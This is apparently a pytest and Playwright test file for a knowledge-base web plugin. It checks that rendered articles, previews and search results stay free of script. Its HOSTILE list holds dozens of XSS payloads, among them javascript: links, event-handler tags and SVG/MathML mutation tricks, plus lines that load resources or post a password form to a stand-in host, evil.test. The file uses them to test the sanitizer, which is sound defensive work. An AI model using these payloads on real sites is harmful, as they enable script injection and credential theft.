"""Articles in a real browser: written with a preview, read on a phone, offered while a request is typed, and harmless whatever is in them."""

from __future__ import annotations

import re
from typing import Any

import msgspec
import pytest
from newel.domain.context import Context
from newel.web.markdown import rendered
from newel_knowledge import decide
from newel_knowledge.rules import KIND
from newel_sdk.site import DESKTOP, PHONE, Site, Watched, fits
from playwright.sync_api import expect

pytestmark = pytest.mark.plugins("knowledge", "requests")
# Each would set the canary if it ran; the text after it must survive where it is text.
HOSTILE = (
    "<script>canary()</script>", "<img src=x onerror=canary()>", "<svg onload=canary()>", "<svg><script>canary()</script></svg>",
    "<svg><a xlink:href='javascript:canary()'>x</a></svg>", "<math><mi xlink:href='javascript:canary()'>x</mi></math>",
    "<math><mtext><table><mglyph><style><img src=x onerror=canary()>",
    "<iframe src='javascript:canary()'></iframe>",
    "<iframe srcdoc='<script>parent.canary()</script>'>",
    "<object data='javascript:canary()'></object>", "<embed src='javascript:canary()'>", "<style>@import '//evil.test/x.css'; body{display:none}</style>",
    "<link rel=stylesheet href='//evil.test/x.css'>", "<base href='//evil.test/'>", "<meta http-equiv=refresh content='0;url=//evil.test'>",
    "<form action='//evil.test'><input name=password></form>", "<button formaction='javascript:canary()'>x</button>", "<body onload=canary()>",
    "<details open ontoggle=canary()>x</details>", "<video><source onerror=canary()></video>", "<audio src=x onerror=canary()>",
    "<input autofocus onfocus=canary()>", "<a href='javascript:canary()'>x</a>", "<div style='background:url(//evil.test/x)'>x</div>",
    "<template><script>canary()</script></template>", "<noscript><p title='</noscript><img src=x onerror=canary()>'>", "<!--><img src=x onerror=canary()>-->",
    "<scr<script>ipt>canary()</scr</script>ipt>", "<SCRIPT>canary()</SCRIPT>", "<img/src=x/onerror=canary()>", "<<script>canary()//<</script>",
    "[x](javascript:canary())", "[x](JaVaScRiPt:canary())", "[x](java\tscript:canary())", "[x](&#106;avascript:canary())", "[x](javascript&colon;canary())",
    "[x](data:text/html,<script>canary()</script>)", "[x](vbscript:canary())", "[x]( javascript:canary())", "![x](javascript:canary())",
    "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9Y2FuYXJ5KCk+)", "![x](https://evil.test/pixel.png)", "![x](//evil.test/pixel.png)",
    "![x](/\\evil.test/pixel.png)",
    '[x](/y "title" onmouseover=canary())', '[x](</y" onmouseover="canary()>)', "<javascript:canary()>",
    "[x]: javascript:canary()\n\n[x]", "`<img src=x onerror=canary()>`",
    "```html\n<script>canary()</script>\n```", "| <img src=x onerror=canary()> |\n|-|\n| [x](javascript:canary()) |", "# <img src=x onerror=canary()>",
    "x{onclick=canary()}", "**<img src=x onerror=canary()>**", "<div hx-get='/logout' hx-trigger=load>x</div>",
    "<a hx-on:click='canary()' hx-post='/knowledge/1/retire'>x</a>",
)  # fmt: skip
ALLOWED = re.compile(
    r"</?(?:blockquote|br|code|del|em|h[234]|hr|li|ol|p|pre|s|strong|table|tbody|td|th|thead|tr|ul)>|</a>|<ol start=\"\d+\">"
    r'|<a href="(?:https?:|mailto:|tel:|[/#?][^"]*|[\w.%-]*)[^"]*"(?: title="[^"]*")? rel="noopener noreferrer nofollow">'
    r'|<img(?: src="/(?![/\\])[^"]*")?(?: alt="[^"]*")?(?: title="[^"]*")?>'
)
DARK = {"viewport": DESKTOP, "color_scheme": "dark"}
SILENT = {"viewport": DESKTOP, "java_script_enabled": False}


@pytest.mark.parametrize("text", HOSTILE)
def test_what_is_rendered_has_harmless_tags_only(text: str) -> None:
    """Whatever comes in: tags and attributes out of the list, and nothing else between angle brackets."""
    html = str(rendered(text))
    assert "<" not in ALLOWED.sub("", html), html
    assert "javascript:" not in re.sub(r">[^<]*<", "><", html).lower()


def _reviewer(context: Context) -> Context:
    return msgspec.structs.replace(context, user=msgspec.structs.replace(context.user, login="rita"))


def _publish(site: Site, title: str, body: str, **values: Any) -> int:
    kit = site.kit
    id = site.ask(kit.app.records.save(KIND, None, {"title": title, "body": body, **values}, kit.context))
    site.ask(decide.step(kit.app, id, "submit", kit.context))
    site.ask(decide.step(kit.app, id, "publish", _reviewer(kit.context)))
    return id


@pytest.mark.parametrize("screen", [{"viewport": DESKTOP}, {"viewport": PHONE}, DARK], ids=["desktop", "phone", "dark"], indirect=True)
def test_hostile_text_is_harmless_in_the_browser(screen: Watched) -> None:
    """On the article's page, in the list and in the preview no canary sings, nothing strange is fetched, and the policy has nothing to complain about."""
    body = "\n\n".join(HOSTILE) + "\n\nAnd then the *harmless* end."
    id = _publish(screen.site, "Hostile <img src=x onerror=canary()>", body)
    screen.expected = (404,)  # a picture of this server that is not there
    screen.page.add_init_script("window.sung = []; window.canary = () => window.sung.push(location.href)")
    page = screen.open(f"/knowledge/{id}")
    assert page.locator("article em").inner_text() == "harmless"
    assert page.locator("article :is(script, svg, math, iframe, object, embed, style, form, input, button, video, audio, template, link, meta)").count() == 0
    for link in page.locator("article a").all():
        assert (link.get_attribute("href") or "").startswith(("/", "http:", "https:", "mailto:", "#", "?")) or ":" not in (link.get_attribute("href") or "")
    page.hover("article em")
    assert page.evaluate("window.sung") == []
    screen.open("/knowledge?q=harmless+onerror+canary")
    assert page.locator("mark").count() > 0
    assert page.evaluate("window.sung") == []
    screen.open("/knowledge/new")
    page.fill("#body", body)
    page.wait_for_selector("#preview em")
    assert page.evaluate("window.sung") == []
    page.evaluate("delete document.querySelector('form[data-guard]').dataset.dirty")


@pytest.mark.parametrize("screen", [{"viewport": DESKTOP}, {"viewport": PHONE}], ids=["desktop", "phone"], indirect=True)
def test_an_article_is_written_with_a_preview_and_submitted(screen: Watched) -> None:
    """The preview comes while one types; saved, it can be submitted, and its author does not get to publish it."""
    page = screen.open("/knowledge")
    page.click("text=New article")
    page.fill("#title", "Oiling hinges")
    page.fill("#body", "## Once a year\n\nA **drop** of oil.")
    page.wait_for_selector("#preview strong")
    assert page.locator("#preview h2").inner_text() == "Once a year"
    fits(page)
    page.click("button[value=save]")
    page.wait_for_selector("article h2")
    page.click("text=Submit for review")
    page.wait_for_selector("text=In review")
    screen.expected = (409,)
    page.click("button:has-text('Publish')")
    page.wait_for_selector("text=somebody else reviews and publishes it")
    fits(page)


def test_the_preview_shows_what_was_typed_last(screen: Watched) -> None:
    """Over a slow line the next words come before the answer to the last ones: the newest question is asked at once, and it alone is answered."""
    page, asked = screen.open("/knowledge/new"), screen.hold("**/knowledge/preview", times=3)
    for n, word in enumerate(("one", "two", "three")):
        page.fill("#body", f"**{word}**")
        asked(n + 1)
    asked(3).continue_()
    expect(page.locator("#preview strong")).to_have_text("three")
    page.evaluate("delete document.querySelector('form[data-guard]').dataset.dirty")


@pytest.mark.parametrize("screen", [SILENT], ids=["no scripts"], indirect=True)
def test_without_scripts_there_is_a_button_for_the_preview(screen: Watched) -> None:
    """Everything works but what comes by itself."""
    page = screen.open("/knowledge/new")
    page.fill("#title", "Oiling hinges")
    page.fill("#body", "A **drop** of oil.")
    page.click("button[value=preview]")
    expect(page.locator("#preview strong")).to_have_text("drop")
    page.click("button[value=save]")
    expect(page.locator("article strong")).to_have_text("drop")
    page.goto(f"{screen.site.url}/knowledge?q=hinge")
    assert page.locator("text=Oiling hinges").count() == 1


@pytest.mark.parametrize("screen", [{"viewport": DESKTOP}, {"viewport": PHONE}], ids=["desktop", "phone"], indirect=True)
def test_articles_are_offered_while_a_request_is_typed(screen: Watched) -> None:
    """In the kernel's own form; from the stored request one reads the article, says that it solved it, and comes back."""
    site = screen.site
    _publish(site, "Changing the bearings of the press", "Switch the press off.\n\n- Take the cover off.\n- Pull the bearings.")
    site.ask(site.kit.party("ACME"))
    page = screen.open("/documents/requests.request/new")
    page.fill("#party", "ACME")
    page.wait_for_selector("[role=option]")
    page.keyboard.press("Enter")
    page.locator("textarea[name=text]").fill("The bearings of our press are loud")
    page.wait_for_selector("#preview-side a:has-text('Changing the bearings of the press')")
    fits(page)
    page.click("button[value=save]")
    page.wait_for_selector("text=Changing the bearings of the press")
    page.click("a:has-text('Changing the bearings of the press')")
    page.click("text=This solved it")
    page.wait_for_selector("text=Solved it")
    page.wait_for_url("**/document/*")


def test_two_versions_are_compared(screen: Watched) -> None:
    """What went and what came is marked, and not by colour alone."""
    site = screen.site
    kit = site.kit
    id = _publish(site, "Oil", "Use oil.\n\nEvery year.")
    site.ask(decide.step(kit.app, id, "revise", kit.context))
    site.ask(kit.app.records.save(KIND, id, {"body": "Use the right oil.\n\nEvery year."}, kit.context))
    site.ask(decide.step(kit.app, id, "submit", kit.context))
    site.ask(decide.step(kit.app, id, "publish", _reviewer(kit.context)))
    page = screen.open(f"/knowledge/{id}")
    page.click("text=What is different")
    expect(page.locator(".knowledge-diff del")).to_have_text("Use oil.")
    expect(page.locator(".knowledge-diff ins")).to_have_text("Use the right oil.")
    screen.open(f"/knowledge/{id}?version=1")
    assert "Use oil." in page.inner_text("article")
    assert "old version" in page.inner_text("main")
